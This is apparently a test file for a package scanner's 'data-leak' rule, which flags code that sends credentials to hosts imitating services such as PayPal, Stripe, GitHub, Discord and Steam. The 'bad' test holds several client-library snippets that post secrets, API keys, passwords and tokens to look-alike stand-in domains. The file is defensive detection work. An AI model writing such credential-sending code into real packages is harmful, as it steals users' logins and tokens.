import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';
import { isRegisteredAsPaid } from '../facts/services.js';

/** Of `data-leak`, what somebody logs in with at a host that is called like a service. */
const isTold = (code: string) => findingsOf(rule, { 'a.js': code }).some(({ message, severity }) => message.startsWith('what somebody logs in with goes to a server that is called like a well-known service') && severity === 'high');

test('bad: an id and a secret, a key or a password go to a host that only looks like the one of a service', () => {
  for (const code of [
    'class Client { constructor({ id, secret }) { Object.assign(this, { id, secret }) } async token() { const r = await fetch("https://api-m.paypal-gateway.example/v1/token", { method: "POST", headers: { authorization: "Basic " + Buffer.from(this.id + ":" + this.secret).toString("base64") } }); return (await r.json()).token } } module.exports = Client',
    'module.exports = (apiKey) => ({ charge: async (order) => { const r = await fetch("https://api.stripepay-simple.example/v1/charges", { method: "POST", headers: { authorization: "Bearer " + apiKey }, body: JSON.stringify(order) }); return r.json() } })',
    'const axios = require("axios"); exports.signIn = async (user, password) => (await axios.post("https://login-github.example/session", { user, password })).data.token',
    'const axios = require("axios"); const api = axios.create({ baseURL: "https://discord-login.example/api" }); exports.me = async (botToken) => (await api.get("/users/@me", { headers: { Authorization: `Bot ${botToken}` } })).data',
    'const https = require("https"); exports.token = (client_secret, done) => { const request = https.request({ hostname: "api.paypal-checkout.example", path: "/t", method: "POST", headers: { authorization: client_secret } }, done); request.end() }',
    'class Api { constructor(key) { this.key = key; this.base = "https://api.github.com.example" } async get(path) { const r = await fetch(this.base + path, { headers: { Authorization: "token " + this.key } }); return r.json() } } module.exports = Api',
    'const ROOT = "https://steamcommunlty.example"; const ask = async (path, body) => (await fetch(ROOT + path, { method: "POST", body: JSON.stringify(body) })).json(); exports.trade = (access_token, offer) => ask("/trade", { access_token, offer })',
  ]) assert.equal(isTold(code), true, code);
});

test('good: the service itself, a company that has it below its own name, tools around it, and what is no login', () => {
  for (const code of [
    'module.exports = (key) => ({ charge: async (order) => (await fetch("https://api.stripe.com/v1/charges", { method: "POST", headers: { authorization: "Bearer " + key }, body: order })).json() })',
    'exports.token = async (id, secret) => (await fetch("https://api-m.sandbox.paypal.com/v1/oauth2/token", { method: "POST", headers: { authorization: "Basic " + btoa(id + ":" + secret) } })).json()',
    'exports.repos = async (token) => (await fetch("https://github.company.example/api/v3/user/repos", { headers: { authorization: `token ${token}` } })).json()',
    'exports.charge = async (key, order) => (await fetch("https://stripe.company.example/charges", { method: "POST", headers: { authorization: key }, body: order })).json()',
    'exports.stats = async (botToken, count) => (await fetch("https://discordbotlist.example/api/stats", { method: "POST", headers: { Authorization: botToken }, body: JSON.stringify({ count }) })).json()',
    'exports.status = async () => (await fetch("https://paypal-status.example/v1/state", { headers: { accept: "application/json" } })).json()',
    'exports.warn = (host) => host === "paypal-gateway.example" ? "this is not the service" : null; exports.login = async (api, password) => (await fetch(api + "/login", { method: "POST", body: JSON.stringify({ password }) })).json()',
  ]) assert.equal(isTold(code), false, code);
});

test('a name of a service where people pay counts in what somebody registered', () => {
  assert.deepEqual(['paypal-gateway.example', 'api.stripepay-simple.example', 'stripe.example', 'stripe.company.example', 'stripe-docs.example', 'api.stripe.com', 'stripes.example'].map(isRegisteredAsPaid), [true, true, true, false, false, false, false]);
});
